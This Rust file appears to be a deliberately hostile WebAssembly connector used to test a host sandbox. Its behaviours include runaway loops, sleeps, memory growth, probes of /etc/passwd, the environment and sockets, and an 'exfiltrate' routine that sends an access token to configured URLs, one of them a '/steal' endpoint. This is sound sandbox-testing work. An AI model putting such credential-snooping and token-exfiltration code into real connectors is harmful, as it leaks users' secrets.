//! A connector that misbehaves on purpose, one way per `behavior` in its
//! config, so the host's sandbox can be tested against a real component:
//!
//! - `spin`: `read` loops forever without calling the host;
//! - `clock-spin`: `read` loops forever reading the host's clock and
//!   logging, which is not progress;
//! - `doze`: `read` sleeps 200 ms at a time, forever;
//! - `hibernate`: `read` asks for one sleep of 49 days;
//! - `patient`: `read` runs three rounds of half a `budget_ms` computing
//!   and 1.5 budgets asleep (two sleeps), each ended by a checkpoint: far
//!   longer in all than the watchdog allows, and more sleep in all than the
//!   max wait, but little of either between two checkpoints;
//! - `grow`: `read` allocates memory without bound;
//! - `recurse`: `read` recurses without bound;
//! - `fetch`: `allowed-origins` declares `origins`, `check` requests every
//!   URL of `urls` and reports each outcome;
//! - `snoop`: `check` reports what it can see of files, environment,
//!   arguments, stdio and sockets;
//! - `undeclared`, `not-json`: `read` emits records for a stream it never
//!   declared, or a record that is not JSON;
//! - `exfiltrate`: `read` tries every way out for the `access_token` it was
//!   given: logs the config, emits it as a record and checkpoints it, puts
//!   the token in a URL, a body and headers to `base_url` (an echo server)
//!   and in headers to `other_url`, emits every response it saw, and fails
//!   with the config in its error.

#![cfg(target_arch = "wasm32")]

wit_bindgen::generate!({ path: "../../../wit", world: "source-connector" });

use std::time::{Duration, Instant};

use connector::source::types::{ConnectorError, ErrorCategory, LogLevel, Method, Request};
use connector::source::{clock, http, output, state};
use exports::connector::source::source::Guest;
use serde_json::Value;

struct Hostile;

export!(Hostile);

fn parse(config: &str) -> Value {
    serde_json::from_str(config).unwrap_or_default()
}

fn strings(config: &Value, field: &str) -> Vec<String> {
    config[field]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|v| v.as_str().map(String::from))
        .collect()
}

fn error(message: String) -> ConnectorError {
    ConnectorError {
        category: ErrorCategory::Internal,
        message,
        document: None,
    }
}

/// Computes for `duration` without calling the host (the WASI clock it
/// reads does not count as a host call).
fn busy(duration: Duration) {
    let started = Instant::now();
    let mut x = 0u64;
    while started.elapsed() < duration {
        x = std::hint::black_box(x.wrapping_mul(31).wrapping_add(7));
    }
}

fn fetch(url: &str) -> String {
    let request = Request {
        method: Method::Get,
        url: url.to_string(),
        headers: vec![("authorization".into(), "Bearer hostile-secret".into())],
        body: None,
        timeout_ms: 5_000,
    };
    match http::send(&request) {
        Ok(response) => {
            let location = response
                .headers
                .iter()
                .find(|(name, _)| name == "location")
                .map(|(_, value)| format!(" location {value}"))
                .unwrap_or_default();
            format!("{url} -> status {}{location}", response.status)
        }
        Err(e) => format!("{url} -> {e:?}"),
    }
}

/// What the sandbox lets the guest see, as a JSON object.
fn snoop(config: &Value) -> Value {
    let outcome = |result: std::io::Result<String>| match result {
        Ok(seen) => format!("ok: {seen}"),
        Err(e) => format!("error: {e}"),
    };
    let listing = |path: &str| {
        std::fs::read_dir(path).map(|entries| {
            entries
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect::<Vec<_>>()
                .join(",")
        })
    };
    let connect = config["connect"].as_str().unwrap_or("127.0.0.1:1");
    println!("written to stdout");
    eprintln!("written to stderr");
    serde_json::json!({
        "read /etc/passwd": outcome(std::fs::read_to_string("/etc/passwd")),
        "list /": outcome(listing("/")),
        "list .": outcome(listing(".")),
        "write ./x": outcome(std::fs::write("x", "x").map(|()| String::new())),
        "env": std::env::vars().map(|(k, _)| k).collect::<Vec<_>>(),
        "args": std::env::args().collect::<Vec<_>>(),
        "stdin": outcome(std::io::read_to_string(std::io::stdin())),
        "connect": outcome(std::net::TcpStream::connect(connect).map(|_| connect.to_string())),
        "resolve": outcome(std::net::ToSocketAddrs::to_socket_addrs("localhost:80")
            .map(|a| format!("{:?}", a.collect::<Vec<_>>()))),
    })
}

impl Guest for Hostile {
    fn spec() -> String {
        r#"{"type":"object"}"#.into()
    }

    /// `origins` holds `[scheme, authority]` pairs, so that the config does
    /// not name the origins just by listing them (the host admits a loopback
    /// origin only when the config names it).
    fn allowed_origins(config: String) -> Result<Vec<String>, ConnectorError> {
        let config = parse(&config);
        Ok(config["origins"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|pair| {
                format!(
                    "{}://{}",
                    pair[0].as_str().unwrap_or(""),
                    pair[1].as_str().unwrap_or("")
                )
            })
            .collect())
    }

    fn check(config: String) -> Result<String, ConnectorError> {
        let config = parse(&config);
        match config["behavior"].as_str() {
            Some("fetch") => Ok(strings(&config, "urls")
                .iter()
                .map(|url| fetch(url))
                .collect::<Vec<_>>()
                .join("\n")),
            Some("snoop") => Ok(snoop(&config).to_string()),
            other => Err(error(format!("check has no behavior {other:?}"))),
        }
    }

    fn discover(_: String) -> Result<String, ConnectorError> {
        Ok(r#"{"streams":[]}"#.into())
    }

    fn read(config: String, _: Option<String>, _: Option<String>) -> Result<(), ConnectorError> {
        match parse(&config)["behavior"].as_str() {
            Some("spin") => loop {
                std::hint::black_box(());
            },
            Some("patient") => {
                let budget = Duration::from_millis(config_ms(&config));
                let ms = budget.as_millis() as u32;
                for round in 0..3 {
                    busy(budget / 2);
                    clock::sleep(ms, clock::WaitReason::RateLimit);
                    clock::sleep(ms / 2, clock::WaitReason::Retry);
                    output::log(LogLevel::Info, &format!("round {round}"));
                    state::checkpoint(&format!(r#"{{"round":{round}}}"#)).map_err(error)?;
                }
                Ok(())
            }
            Some("clock-spin") => {
                for round in 0u64.. {
                    if clock::now_ms() == 0 || round % 1_000_000 == 0 {
                        output::log(LogLevel::Debug, "still here");
                    }
                }
                Ok(())
            }
            Some("doze") => loop {
                clock::sleep(200, clock::WaitReason::Busy);
            },
            Some("hibernate") => {
                clock::sleep(u32::MAX, clock::WaitReason::Busy);
                Ok(())
            }
            Some("grow") => {
                let mut hoard = Vec::new();
                loop {
                    hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
                }
            }
            Some("recurse") => Err(error(format!("depth {}", deep(0)))),
            Some("undeclared") => {
                output::records("ghost", &[r#"{"id":1}"#.into()]);
                Ok(())
            }
            Some("bad-schema") => {
                output::schema("things", "[1]", &["id".into()], &[]);
                output::records("things", &[r#"{"id":1}"#.into()]);
                Ok(())
            }
            Some("not-json") => {
                output::schema("things", r#"{"type":"object"}"#, &["id".into()], &[]);
                output::records("things", &["{not json".into()]);
                Ok(())
            }
            Some("exfiltrate") => exfiltrate(&config),
            other => Err(error(format!("read has no behavior {other:?}"))),
        }
    }
}

const LOOT_SCHEMA: &str = concat!(
    r#"{"type":"object","properties":{"id":{"type":"integer"},"config":{"type":"string"},"#,
    r#""token":{"type":"string"},"status":{"type":"integer"},"headers":{"type":"array"},"#,
    r#""body":{"type":"string"},"error":{"type":"string"}}}"#
);

/// Every path a token in the config could take out of the component.
fn exfiltrate(text: &str) -> Result<(), ConnectorError> {
    let config = parse(text);
    let token = config["access_token"].as_str().unwrap_or_default();
    let base = config["base_url"].as_str().unwrap_or_default();
    let other = config["other_url"].as_str().unwrap_or_default();
    output::log(LogLevel::Error, &format!("config {text}"));
    output::schema("loot", LOOT_SCHEMA, &["id".into()], &[]);
    let record = serde_json::json!({ "id": 0, "config": text, "token": token });
    output::records("loot", &[record.to_string()]);
    state::checkpoint(&record.to_string()).map_err(error)?;
    let headers = vec![
        ("authorization".to_string(), format!("Bearer {token}")),
        ("x-token".to_string(), token.to_string()),
    ];
    let request = |method, url: String, body: Option<Vec<u8>>| Request {
        method,
        url,
        headers: headers.clone(),
        body,
        timeout_ms: 5_000,
    };
    let requests = [
        request(Method::Get, format!("{base}/echo?token={token}"), None),
        request(
            Method::Post,
            format!("{base}/echo"),
            Some(format!(r#"{{"token":"{token}"}}"#).into_bytes()),
        ),
        request(Method::Get, format!("{other}/steal?token={token}"), None),
    ];
    let mut results = vec![http::send(&requests[0])];
    results.extend(http::send_batch(&requests[1..]));
    for (id, result) in (1..).zip(results) {
        let seen = match result {
            Ok(response) => serde_json::json!({
                "id": id,
                "status": response.status,
                "headers": response.headers,
                "body": String::from_utf8_lossy(&response.body),
            }),
            Err(e) => serde_json::json!({ "id": id, "error": format!("{e:?}") }),
        };
        output::log(LogLevel::Info, &format!("saw {seen}"));
        output::records("loot", &[seen.to_string()]);
    }
    state::checkpoint(r#"{"done":true}"#).map_err(error)?;
    Err(error(format!("giving up with {text}")))
}

/// The watchdog budget the test runs under, from `budget_ms`.
fn config_ms(config: &str) -> u64 {
    parse(config)["budget_ms"].as_u64().unwrap_or(1_000)
}

fn deep(depth: u64) -> u64 {
    if std::hint::black_box(depth) == u64::MAX {
        return depth;
    }
    std::hint::black_box(deep(depth + 1)) + 1
}
